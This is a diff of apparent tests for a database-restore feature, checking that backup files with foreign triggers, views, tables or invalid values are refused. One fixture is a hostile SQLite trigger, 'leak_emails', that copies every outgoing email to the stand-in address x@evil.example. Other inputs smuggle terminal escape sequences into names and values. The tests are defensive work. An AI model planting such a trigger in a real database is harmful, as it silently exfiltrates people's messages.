@@ -10,7 +10,7 @@ let folder: ReturnType<typeof newDataDir>
 let file: string
 beforeEach(() => {
   folder = newDataDir()
-  file = join(folder.path, 'given.db')
+  file = join(folder.path, 'restored.db')
 })
 afterEach(() => folder[Symbol.dispose]())
 
@@ -24,12 +24,12 @@ async function change(...statements: string[]) {
   sqlite.close()
 }
 
-const toStranger = `create trigger tell_stranger after insert on outbox when new.recipient <> 'x@evil.example' begin
+const leakTrigger = `create trigger leak_emails after insert on outbox when new.recipient <> 'x@evil.example' begin
   insert into outbox (lead_id, kind, recipient, queued_at, due_at, message_id)
   values (new.lead_id, new.kind, 'x@evil.example', new.queued_at, new.due_at, 'x'); end`
 
 test.each([
-  ['a trigger', 'trigger tell_stranger', [toStranger]],
+  ['a trigger', 'trigger leak_emails', [leakTrigger]],
   ['a view', 'view more', ['create view more as select * from leads']],
   ['a table', 'table more', ['create table more (text)']],
   ['a virtual table', 'table more', ['create virtual table more using fts5(text)']],
@@ -57,10 +57,10 @@ test.each([
   ],
   ['an extra column', 'table accepted_requests', ['alter table accepted_requests add column more text']],
   ['an escape sequence in a name', 'table a ]0;b', ['create table "a\u001b]0;b" (text)']],
-])('a file with %s is refused, and nothing is changed', async (_what, named, statements) => {
+])('a file with %s is refused, and nothing is changed', async (_what, definition, statements) => {
   await change(...statements)
 
-  await expect(restore()).rejects.toThrow(`It has the ${named}, which this program did not create`)
+  await expect(restore()).rejects.toThrow(`It has the ${definition}, which this program did not create`)
   expect(() => new Sqlite(join(dataDir(), 'leads.db'), { fileMustExist: true })).toThrow()
 })
 
@@ -87,6 +87,15 @@ const email = (column = '', value = '') => {
   }
   return `insert into outbox (${Object.keys(values).join()}) values (${Object.values(values).join()})`
 }
+const event = (column: string, value: string) =>
+  `${lead()}; insert into lead_events (lead_id, at, who, what) select id, '2026-03-02T08:00:00.000Z', 'shell', 'note' from leads;
+  update lead_events set ${column} = ${value}`
+const draft = (column: string, value: string) =>
+  `${lead()}; insert into lead_drafts select id, 'owner@example.com', 'Dear', '2026-03-02T08:00:00.000Z' from leads;
+  update lead_drafts set ${column} = ${value}`
+const passkey = (column: string, value: string) =>
+  `insert into passkeys values ('a', 'o', 'u', 'k', 1, '[]', 'phone', 'plumbline.example', '2026-03-02T08:00:00.000Z', null);
+  update passkeys set ${column} = ${value}`
 const attempt = (at: string) =>
   `insert into outbox_attempts values ((select max(id) from outbox), ${at}, 'retry', 450, 'later')`
 
@@ -96,6 +105,10 @@ test('a file with valid values is restored', async () => {
     email(),
     email('sent_at', "'2026-03-02T08:00:01.999Z'"),
     attempt("'2026-03-02T08:00:00.000Z'"),
+    event('to_value', 'null').replace(lead(), ''),
+    draft('text', "''").replace(lead(), ''),
+    passkey('used_at', 'null'),
+    "update leads set follow_up_on = '2026-03-04', seen_at = created_at, verdict = 'honest'",
   )
 
   await expect(restore()).resolves.toMatchObject({ leads: 1 })
@@ -113,6 +126,21 @@ test.each([
   ['leads', 'reference', lead('reference', "'Q-7K3M-9QXD' || char(0, 27) || '[2J'")],
   ['leads', 'message', lead('message', "x'00ff'")],
   ['leads', 'spam_score', lead('spam_score', "'many'")],
+  ['leads', 'due_at', lead('due_at', "'soon'")],
+  ['leads', 'seen_at', lead('seen_at', "''")],
+  ['leads', 'answered_at', lead('answered_at', '7')],
+  ['leads', 'follow_up_on', lead('follow_up_on', "'2026-02-30'")],
+  ['leads', 'source', lead('source', "'{'")],
+  ['leads', 'sort_key', lead('sort_key', "x'00'")],
+  ['leads', 'trouble', lead('trouble', "x'00'")],
+  ['leads', 'version', lead('version', "'many'")],
+  ['leads', 'is_indexed', lead('is_indexed', '2')],
+  ['lead_events', 'at', event('at', "''")],
+  ['lead_events', 'what', event('what', "x'00'")],
+  ['lead_drafts', 'updated_at', draft('updated_at', "'now'")],
+  ['lead_drafts', 'text', draft('text', "x'00'")],
+  ['passkeys', 'counter', passkey('counter', "'many'")],
+  ['passkeys', 'transports', passkey('transports', "'['")],
   ['outbox', 'queued_at', email('queued_at', "'tomorrow'")],
   ['outbox', 'due_at', email('due_at', "x'00'")],
   ['outbox', 'sent_at', email('sent_at', "''")],
@@ -124,7 +152,7 @@ test.each([
 ])('a file with an invalid value in %s.%s is refused', async (table, column, statement) => {
   await change(statement)
 
-  const reason = `Its table ${table} has a value in ${column} that this program never writes there.`
+  const reason = `Its table ${table} has an invalid value in the column ${column}.`
   await expect(restore()).rejects.toThrow(reason)
 })
 
@@ -175,13 +203,13 @@ test('a file with a missing index is refused', async () => {
   await expect(restore()).rejects.toThrow('It is missing the index outbox_open')
 })
 
-test('the tables of ANALYZE are allowed', async () => {
+test('the tables that ANALYZE creates are allowed', async () => {
   await change("insert into accepted_requests values ('c', '2026-03-02')", 'analyze')
 
   await expect(restore()).resolves.toMatchObject({ leads: 0 })
 })
 
-// Earlier versions ran these statements one by one. A kill could hit between any two.
+// Earlier versions ran these statements without a transaction, so a kill could hit between any two.
 const recorded = readFileSync(
   join(import.meta.dirname, '../proof/testing/fixtures/migrations-one-by-one.sql'),
   'utf8',
@@ -195,7 +223,7 @@ const stages = steps.flatMap(({ name, statements }, index) =>
 )
 
 test.each(stages)(
-  'a file killed after $count statements of $name is restored, unless it has no outbox yet',
+  'a file left after $count statements of migration $name is restored if it has an outbox',
   async ({ name, count }) => {
     const sqlite = new Sqlite(file)
     for (const step of steps) {
@@ -204,10 +232,10 @@ test.each(stages)(
       if (isLast) break
       sqlite.prepare("insert into kysely_migration values (?, '2026-03-02T08:00:00.000Z')").run(step.name)
     }
-    const isReadable = sqlite.prepare("select 1 from sqlite_schema where name = 'outbox'").get() !== undefined
+    const hasOutbox = sqlite.prepare("select 1 from sqlite_schema where name = 'outbox'").get() !== undefined
     sqlite.close()
 
-    if (!isReadable) await expect(restore()).rejects.toThrow('no such table: outbox')
+    if (!hasOutbox) await expect(restore()).rejects.toThrow('no such table: outbox')
     else {
       await expect(restore()).resolves.toMatchObject({ leads: 0, schema: 'older' })
       await (await openDatabase(dataDir())).destroy()
@@ -215,7 +243,7 @@ test.each(stages)(
   },
 )
 
-test('a trigger in a file from an earlier version is refused, too', async () => {
+test('a file from an earlier version with a trigger is refused', async () => {
   const sqlite = new Sqlite(file)
   for (const statement of steps[0]?.statements ?? []) sqlite.exec(statement)
   sqlite.prepare("insert into kysely_migration values (?, '2026-03-02T08:00:00.000Z')").run(steps[0]?.name)
